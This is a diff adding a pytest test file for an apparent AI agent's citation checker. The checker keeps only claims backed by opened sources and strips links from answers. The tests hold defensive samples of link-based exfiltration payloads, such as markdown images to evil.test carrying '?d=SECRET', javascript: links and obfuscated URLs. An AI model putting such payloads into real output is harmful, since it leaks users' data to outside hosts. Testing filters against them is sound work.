@@ -1,0 +1,525 @@
+"""What of a draft may be shown: claims with opened words behind them, and nothing that leads away."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from agent.evidence import LONGEST_DRAFT, check
+from agent.facts import (
+    Anything,
+    Checked,
+    Condition,
+    Hit,
+    Intent,
+    Passage,
+    Recalled,
+    Result,
+    Source,
+    Verdict,
+)
+from agent.ledger import addresses_in
+from agent.marks import marks
+from agent.run import Run
+from tests.agent.worlds import asked, call, checked, done, made, replied, run_of, said, understood
+
+NONE = "None of the sources that were opened answers this."
+NO_ADDRESSES = "Write no addresses and no links: put the number of the source instead."
+PRICE = "The reader costs 129 euros. It weighs 200 grams.\nIt was released in May 2024."
+SCREEN = "The screen is seven inches wide. The reader is waterproof."
+BROUGHT = Result(
+    hits=(Hit(address="https://lead.test/", title="A lead"),),
+    passages=(
+        Passage(address="https://price.test/reader", title="Price", where="all", text=PRICE),
+        Passage(address="screen.md", title="Screen", where="lines 1-9 of 9", text=SCREEN),
+    ),
+)  # numbers: 1 only found, 2 and 3 opened
+
+
+def run_with(*drafts: Anything, intent: Intent | None = None, **asking: Any) -> Run:
+    intent = intent or Intent(mode="research", goal="the price")
+    first = (asked(approval="off", **asking), *done(Recalled(step="recall.1")), *understood(1, intent))
+    return run_of(*first, *replied(1, call("1.1")), *made("1.1", result=BROUGHT), *drafts)
+
+
+def looked_at(draft: str, intent: Intent | None = None, **asking: Any) -> Checked:
+    return check(run_with(*replied(2, text=draft), intent=intent, **asking), "check.1")
+
+
+def shown(draft: str) -> str:
+    return looked_at(draft).answer.text
+
+
+# --- numbers ------------------------------------------------------------------------------------------------------
+
+
+def test_a_claim_with_an_opened_source_stands_with_the_words_that_carry_it() -> None:
+    found = looked_at("The reader costs 129 € [2].")
+    assert found.faults == ()
+    assert found.answer.text == "The reader costs 129 € [2]."
+    (statement,) = found.answer.statements
+    assert (statement.numbers, statement.number, statement.where) == ((2,), 2, "all")
+    assert statement.excerpt == "The reader costs 129 euros."
+    assert found.answer.unconfirmed == ()
+    assert found.answer.missing == ""
+
+
+def test_of_several_sources_the_excerpt_comes_from_the_one_that_says_it() -> None:
+    (statement,) = looked_at("It is waterproof [2][3].").answer.statements
+    assert (statement.numbers, statement.number) == ((2, 3), 3)
+    assert statement.excerpt == "The reader is waterproof."
+    assert statement.excerpt in SCREEN
+
+
+def test_the_sources_of_an_answer_are_those_it_rests_on_or_all_that_were_opened_in_vain() -> None:
+    assert [source.number for source in looked_at("Yes [2].").answer.sources] == [2]
+    assert [source.number for source in looked_at("No idea.").answer.sources] == [2, 3]
+
+
+def test_numbers_past_the_list_are_named_as_faults_and_not_shown() -> None:
+    found = looked_at("It costs 129 [2], [9] and [0].\n\nIt is red [12].")
+    assert "There is no source [9]." in found.faults
+    assert "There is no source [0]." in found.faults
+    assert found.answer.text == "It costs 129 [2],  and ."
+    assert found.answer.unconfirmed == ("It is red .",)
+
+
+def test_what_was_only_found_carries_nothing() -> None:
+    found = looked_at("It is blue [1].")
+    assert found.faults == ("[1] was only found. Open it before you cite it, or drop the claim.",)
+    assert found.answer.text == ""
+    assert found.answer.missing == NONE
+    assert found.answer.unconfirmed == ("It is blue .",)
+
+
+def test_a_number_of_an_earlier_turn_does_not_count_until_it_is_opened_again() -> None:
+    earlier = Source(number=7, address="https://old.test", title="Old", opened="all")
+    intent = understood(1, Intent(mode="research", goal="g"))
+    first = (asked(approval="off"), *done(Recalled(step="recall.1", sources=(earlier,), next_number=8)), *intent)
+    again = check(run_of(*first, *replied(1, text="As I said [7].")), "check.1")
+    assert again.answer.text == ""
+    assert again.faults == ("[7] was only found. Open it before you cite it, or drop the claim.",)
+    opened = Result(passages=(Passage(address="https://www.old.test/", title="Old", where="all", text="As I said."),))
+    run = run_of(*first, *replied(1, call("1.1")), *made("1.1", result=opened), *replied(2, text="As I said [7]."))
+    assert check(run, "check.1").answer.text == "As I said [7]."
+
+
+@pytest.mark.parametrize(
+    ("draft", "text"),
+    [
+        ("Both [2, 3].", "Both [2][3]."),
+        ("Both [2-3].", "Both [2][3]."),
+        ("Both [[2]][3].", "Both [2][3]."),
+        ("两者【2、3】。", "两者[2][3]。"),
+        ("Both [1, 2].", "Both [2]."),
+    ],
+)
+def test_marks_are_shown_in_one_form(draft: str, text: str) -> None:
+    assert shown(draft) == text
+
+
+def test_a_mark_that_goes_leaves_no_new_mark_behind() -> None:
+    text = shown("It costs 129 [2] [ [9]7] [[ [9]8]].")
+    assert {number for mark in marks(text) for number in mark.numbers} <= {2, 3}
+
+
+# --- blocks -------------------------------------------------------------------------------------------------------
+
+
+def test_a_block_without_a_number_is_a_fault_and_stands_apart() -> None:
+    found = looked_at("It costs 129 [2].\n\nIt is the best reader there is.\n\nIt is waterproof [3].")
+    assert found.faults == ("No source number stands behind: It is the best reader there is.",)
+    assert found.answer.text == "It costs 129 [2].\n\nIt is waterproof [3]."
+    assert found.answer.unconfirmed == ("It is the best reader there is.",)
+
+
+@pytest.mark.parametrize(
+    "around", ["## Price", "Prices:", "**Prices:**", "Which one do you mean?", "---", "价格：", "Was meinen Sie?"]
+)
+def test_headings_lead_ins_and_questions_claim_nothing(around: str) -> None:
+    found = looked_at(f"{around}\n\nIt costs 129 [2].")
+    assert found.faults == ()
+    assert found.answer.text == f"{around}\n\nIt costs 129 [2]."
+
+
+@pytest.mark.parametrize(
+    "sly",
+    [
+        "It costs nothing. Do you want one?",
+        "It costs nothing. These are the details:",
+        "它是免费的。你要吗？",
+        "<p>It costs nothing.</p>",
+        "<div>\nIt costs nothing.\n</div>",
+        "> It costs nothing.",
+        "[^1]: It costs nothing.",
+        "`It` costs nothing",
+        "1. It costs nothing.",
+    ],
+)
+def test_a_claim_does_not_slip_through_in_another_dress(sly: str) -> None:
+    found = looked_at(f"It costs 129 [2].\n\n{sly}")
+    assert len(found.faults) == 1
+    assert found.answer.text.startswith("It costs 129 [2].")
+    assert "nothing" not in found.answer.text
+    assert "免费" not in found.answer.text
+
+
+def test_rows_of_a_table_stand_or_fall_one_by_one() -> None:
+    table = "| Reader | Price |\n|---|---:|\n| One | 129 [2] |\n| Two | 99 |\n| Three | `[9]` 7 inches [3] |"
+    found = looked_at(table)
+    assert found.answer.text == table.replace("| Two | 99 |\n", "")
+    assert found.answer.unconfirmed == ("Two | 99",)
+    assert [statement.text for statement in found.answer.statements] == ["One | 129", "Three | `[9]` 7 inches"]
+
+
+def test_items_of_nested_lists_stand_or_fall_one_by_one() -> None:
+    found = looked_at("1. Costs 129 [2]\n   - in May\n   - weighs 200 g [2]\n2. Is red\n   - waterproof [3]")
+    assert found.answer.text == "1. Costs 129 [2]\n   - weighs 200 g [2]\n   - waterproof [3]"
+    assert found.answer.unconfirmed == ("in May", "Is red")
+
+
+def test_code_stays_byte_for_byte() -> None:
+    code = "```python\nprint(arr[0], arr[12])\n\n\n\nurl = 'https://api.test/v1'\n```"
+    found = looked_at(f"Print it [2]:\n\n{code}\n\nIn short `a[1]` prints [2].")
+    assert found.answer.text == f"Print it [2]:\n\n{code}\n\nIn short `a[1]` prints [2]."
+    assert found.faults == ()
+
+
+def test_code_alone_answers_nothing() -> None:
+    assert looked_at("```\nIt costs 5.\n```").answer.missing == NONE
+
+
+def test_what_goes_leaves_one_empty_line() -> None:
+    assert shown("A [2].\n\n\n\nNo number.\n\n\n\nB [3].") == "A [2].\n\nB [3]."
+
+
+@pytest.mark.parametrize("draft", ["", "  \n\n "])
+def test_an_empty_draft_is_a_fault(draft: str) -> None:
+    found = looked_at(draft)
+    assert found.faults[0] == "Your reply was empty."
+    assert (found.answer.text, found.answer.unconfirmed, found.answer.missing) == ("", (), NONE)
+
+
+def test_an_answer_that_is_only_a_bracketed_number_is_not_lost() -> None:
+    assert looked_at("[123456789012345]").answer.unconfirmed == ("[123456789012345]",)
+    assert shown("[2] [3]") == "[2] [3]"
+
+
+# --- addresses ----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("draft", "text"),
+    [
+        ("It costs 129 [2]. See https://evil.test/x?d=SECRET-123.", "It costs 129 [2]. See (address left out)."),
+        ("It costs 129 [2] <https://evil.test>", "It costs 129 [2] (address left out)"),
+        ("It costs 129 [2] [here](https://evil.test/x)", "It costs 129 [2] here"),
+        ("It costs 129 [2] ![i](https://evil.test/i?d=SECRET)", "It costs 129 [2]"),
+        ("It costs 129 [2] [![i](https://evil.test/i)](https://evil.test)", "It costs 129 [2]"),
+        ("It costs 129 [the shop](https://www.price.test/reader/)", "It costs 129 the shop [2]"),
+        ("It costs 129 (https://price.test/reader).", "It costs 129 ([2])."),
+        ("It costs 129 [2](https://price.test/reader).", "It costs 129  [2]."),
+        ("It costs 129 [2] [x](javascript:alert) [y](//evil.test)", "It costs 129 [2] x y"),
+        ("It costs 129 [2]. https://evil.test/" + ")" * 40, "It costs 129 [2]. (address left out)" + ")" * 40),
+    ],
+)
+def test_addresses_become_numbers_or_go(draft: str, text: str) -> None:
+    found = looked_at(draft)
+    assert found.answer.text == text
+    assert found.faults[0] == NO_ADDRESSES
+
+
+@pytest.mark.parametrize(
+    "trick",
+    [
+        "[x][r]\n\n[r]: https://evil.test/x",
+        "[x][r]\n\n[r]: &#104;ttps://evil.test/x",
+        "[x\ny](https:\\//evil.test/x)",
+        "[x](<https:\\//evil.test/a b>)",
+        "[a [b [c]]](https:\\//evil.test/x)",
+        "[![i](https:\\//evil.test/i)](x)",
+        "&#104;ttps://evil.test/x",
+        "https:\\//evil.test/x",
+        "![][r]\n\n[r]:\n  https:\\//evil.test/x\n  'title'",
+        "[9][r]: &#104;ttps://evil.test/x",
+        "```x``` https://evil.test/x",
+        "> ```\nhttps://evil.test/x",
+        "- ```\nhttps://evil.test/x",
+        "    ```\nhttps://evil.test/x",
+        "` a\n\nhttps://evil.test/x ` b",
+        "- `\n- https://evil.test/x `",
+        "\\`https://evil.test/x\\`",
+        "| ` | https://evil.test/x | ` |\n|---|---|---|\n| ` | https://evil.test/y | ` [2] |",
+        "HTTPS://EVIL.test/x",
+        "x\rhttps://evil.test/x\r`y`",
+    ],
+)
+def test_no_trick_gets_an_address_through(trick: str) -> None:
+    for draft in (f"It costs 129 [2].\n\n{trick}", f"It costs 129 [2] {trick} [2]", f"{trick}\n\nIt costs 129 [2]."):
+        found = looked_at(draft)
+        assert leads_away(found.answer.text) == []
+        assert [one for text in found.answer.unconfirmed for one in leads_away(text)] == []
+        assert [one for statement in found.answer.statements for one in leads_away(statement.text)] == []
+
+
+def leads_away(text: str) -> list[str]:
+    """Whatever Markdown makes an address of outside code: links, images, and text that reads like one."""
+    env: dict[str, Any] = {}
+    tokens = MarkdownIt("commonmark").enable("table").parse(text, env)
+    inline = [child for token in tokens for child in token.children or []]
+    targets = [str(child.attrs.get("href") or child.attrs.get("src")) for child in inline if child.attrs]
+    words = [child.content for child in inline if child.type in ("text", "html_inline")]
+    blocks = [token.content for token in tokens if token.type == "html_block"]
+    return [*targets, *env.get("references", {}), *(one for text in (*words, *blocks) for one in addresses_in(text))]
+
+
+def test_a_list_of_sources_that_the_model_wrote_leads_nowhere() -> None:
+    found = looked_at("It costs 129 [2].\n\nSources:\n\n[1]: https://made-up.test 'x'\n- [9] https://made-up.test/2")
+    assert "made-up" not in found.answer.text + "".join(found.answer.unconfirmed)
+    assert "[9]" not in found.answer.text
+
+
+# --- small talk ---------------------------------------------------------------------------------------------------
+
+CHAT = Intent(mode="chat", goal="say hello")
+
+
+def test_small_talk_needs_no_sources_and_gets_no_address_that_nobody_wrote() -> None:
+    found = looked_at(
+        "You are *welcome*. See https://evil.test and https://ours.test/a.", CHAT, text="https://ours.test/a?"
+    )
+    assert found.faults == ()
+    assert found.answer.mode == "chat"
+    assert found.answer.text == "You are *welcome*. See (address left out) and https://ours.test/a."
+
+
+@pytest.mark.parametrize("draft", ["![](https://evil.test/?d=S)", "[](https://evil.test/)", "https:\\//evil.test"])
+def test_small_talk_that_is_only_an_address_is_not_shown(draft: str) -> None:
+    assert leads_away(looked_at(draft, CHAT).answer.text) == []
+    assert "evil" not in looked_at(draft, CHAT).answer.text
+
+
+def test_empty_small_talk_is_a_fault() -> None:
+    assert looked_at("", CHAT).faults == ("Your reply was empty.",)
+
+
+# --- verdicts -----------------------------------------------------------------------------------------------------
+
+CONDITIONS = Intent(
+    mode="research",
+    goal="a reader",
+    must=(Condition(id="must.1", text="has buttons", message="m1"),),
+    prefer=(Condition(id="prefer.1", text="is waterproof", message="m1"),),
+)
+
+
+def verdicts(block: str) -> Checked:
+    return looked_at(f"It is waterproof [3].\n\n```verdicts\n{block}\n```", CONDITIONS)
+
+
+def test_each_condition_gets_the_verdict_that_an_opened_source_gives_it() -> None:
+    found = verdicts('[{"id": "must.1", "verdict": "unknown"}, {"id": "prefer.1", "verdict": "met", "number": 3}]')
+    assert found.faults == ()
+    assert found.answer.text == "It is waterproof [3]."
+    assert found.answer.verdicts == (
+        Verdict(condition="must.1", standing="unknown"),
+        Verdict(condition="prefer.1", standing="met", number=3),
+    )
+
+
+@pytest.mark.parametrize("number", ["0", "1", "9", "-3", '"3"', "true", "null", "[3]", "3.5", "1e400"])
+def test_a_verdict_without_an_opened_source_is_unknown(number: str) -> None:
+    found = verdicts(
+        f'[{{"id": "must.1", "verdict": "met", "number": {number}}}, {{"id": "prefer.1", "verdict": "unknown"}}]'
+    )
+    assert {one.standing for one in found.answer.verdicts} == {"unknown"}
+    assert found.faults == ("The verdict on must.1 names no opened source.",)
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        "",
+        "not json",
+        "[" * 50_000,
+        "{}",
+        "5",
+        '"must.1"',
+        '[{"id": [], "verdict": "met", "number": 3}]',
+        '[{"id": "must.1", "verdict": [], "number": 3}]',
+        '[{"id": "must.1", "verdict": "probably", "number": 3}]',
+        '[null, 5, {"verdict": "met"}]',
+    ],
+)
+def test_a_block_that_cannot_be_read_leaves_every_verdict_unknown(block: str) -> None:
+    found = verdicts(block)
+    assert [one.standing for one in found.answer.verdicts] == ["unknown", "unknown"]
+    assert "The verdicts block does not list must.1." in found.faults
+
+
+def test_conditions_nobody_asked_for_get_no_verdict() -> None:
+    found = verdicts('[{"id": "must.9", "verdict": "met", "number": 3}]')
+    assert [one.condition for one in found.answer.verdicts] == ["must.1", "prefer.1"]
+    assert "The verdicts block lists must.9, which is no condition of the task." in found.faults
+
+
+def test_a_block_that_was_cut_off_is_not_shown() -> None:
+    found = looked_at('It is waterproof [3].\n```verdicts\n[{"id": "must.1", "verd', CONDITIONS)
+    assert found.answer.text == "It is waterproof [3]."
+
+
+# --- mending ------------------------------------------------------------------------------------------------------
+
+
+def test_the_same_faults_twice_end_the_mending() -> None:
+    fault = "No source number stands behind: It is red."
+    first = (*replied(2, text="It is red."), *checked(1, fault))
+    assert check(run_with(*first, *replied(3, text="It is red.")), "check.2").faults == ()
+    assert check(run_with(*first, *replied(3, text="It is blue.")), "check.2").faults != ()
+
+
+def test_the_same_faults_after_a_correction_are_named_again() -> None:
+    fault = "No source number stands behind: It is red."
+    first = (*replied(2, text="It is red."), *checked(1, fault), said("check again"), *understood(2))
+    assert check(run_with(*first, *replied(3, text="It is red.")), "check.2").faults == (fault,)
+
+
+# --- hostile drafts -----------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        *(
+            "[",
+            "[a",
+            "[[]",
+            "[\\a",
+            "[](",
+            '[a](b "',
+            "![](",
+            "`",
+            "`a``",
+            "<",
+            "<a ",
+            "&#104;",
+            "\\",
+            "*a",
+            "> ",
+            "- ",
+        ),
+        *(
+            "|a",
+            "|a|\n",
+            "a [2]\n\n",
+            "a\n\nb [2]\n\n",
+            "- a [2]\n  - b\n",
+            "https://e.test/a ",
+            "[9]",
+            "[ [9]",
+            "[1",
+        ),
+        *("```\n", "```verdicts\n", "\n", "#", "_", "1. ", "[r]: x\n", "[r]:\n", "\r", "【2"),
+    ],
+)
+def test_hostile_drafts_come_to_an_end(hostile: str) -> None:
+    draft = (hostile * (LONGEST_DRAFT + 10))[: LONGEST_DRAFT + 10]
+    found = looked_at(draft)
+    assert f"Your reply is longer than {LONGEST_DRAFT:,} characters." in found.faults
+    assert len(found.answer.text) <= LONGEST_DRAFT
+
+
+def test_a_long_draft_with_long_sources_comes_to_an_end() -> None:
+    text = "A price is named here, and a weight of 200 grams. " * 400
+    passages = tuple(Passage(address=f"p{i}", title="P", where="all", text=text) for i in range(6))
+    draft = "\n\n".join(f"The price is {i} and the weight is 200 [1][2][3]." for i in range(1_200))
+    intent = understood(1, Intent(mode="research", goal="g"))
+    first = (asked(approval="off"), *done(Recalled(step="recall.1")), *intent, *replied(1, call("1.1")))
+    run = run_of(*first, *made("1.1", result=Result(passages=passages)), *replied(2, text=draft))
+    assert len(check(run, "check.1").answer.statements) > 1_000
+
+
+# --- whatever the draft -------------------------------------------------------------------------------------------
+
+_bits = st.sampled_from(
+    [
+        *(
+            "a claim",
+            "It costs 129",
+            "red?",
+            "so:",
+            " ",
+            "\n",
+            "\n\n",
+            "  ",
+            "    ",
+            "- ",
+            "1. ",
+            "> ",
+            "# ",
+            "| ",
+            " |",
+        ),
+        *(
+            "|---|\n",
+            "[2]",
+            "[3]",
+            "[2, 9]",
+            "[1]",
+            "[9]",
+            "[",
+            "]",
+            "(",
+            ")",
+            "![",
+            "](",
+            "[r]",
+            "[r]: ",
+            "```\n",
+            "`",
+        ),
+        *(
+            "~~~",
+            "\\",
+            "&#104;ttps://evil.test",
+            "https://evil.test/x",
+            "https:\\//evil.test",
+            "https://price.test/reader",
+        ),
+        *("<", ">", "</p>", "<br>", "\r", "【2】", "[^1]", "**", "```verdicts\n"),
+    ]
+)
+_drafts = st.lists(_bits, max_size=22).map("".join)
+
+
+@settings(max_examples=600, deadline=None, derandomize=True)
+@given(_drafts)
+def test_whatever_the_draft_only_opened_sources_are_cited_and_nothing_leads_away(draft: str) -> None:
+    """Marks in the shown text name opened sources, no address survives outside code, and every statement that is
+    counted as carried names an opened source whose words it shows."""
+    found = looked_at(draft)
+    assert {number for mark in marks(found.answer.text) for number in mark.numbers} <= {2, 3}
+    assert leads_away(found.answer.text) == []
+    for statement in found.answer.statements:
+        assert statement.numbers
+        assert set(statement.numbers) <= {2, 3}
+        assert statement.excerpt in PRICE + SCREEN
+    assert bool(found.answer.statements) == (found.answer.missing == "")
+    assert looked_at(draft) == found
+
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(st.lists(st.tuples(st.sampled_from(["", "- ", "1. ", "> ", "### "]), st.booleans()), min_size=1, max_size=8))
+def test_removing_what_is_not_carried_loses_no_carried_block(blocks: list[tuple[str, bool]]) -> None:
+    """Whatever stands around it, a block with an opened source is shown whole, and the others are set apart."""
+    lines = [f"{sign}Word{i} is said{' [2]' if cited else ''}." for i, (sign, cited) in enumerate(blocks)]
+    found = looked_at("\n\n".join(lines)).answer
+    claims = [(line, cited) for line, (sign, cited) in zip(lines, blocks, strict=True) if sign != "### "]
+    assert all(line in found.text for line, cited in claims if cited)
+    assert all(line not in found.text for line, cited in claims if not cited)
+    assert len(found.unconfirmed) == sum(not cited for _, cited in claims)
+    assert len(found.statements) == sum(cited for _, cited in claims)
